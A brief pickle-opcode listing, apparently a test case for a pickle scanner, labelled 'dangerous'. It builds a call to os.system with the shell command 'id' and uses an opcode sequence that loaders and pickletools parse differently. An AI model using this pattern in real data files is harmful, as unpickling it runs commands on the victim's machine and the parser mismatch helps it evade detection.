# dangerous: 16 for loaders, an error for pickletools
INT 0x10
POP
GLOBAL os system
MARK
UNICODE id
TUPLE
REDUCE
STOP
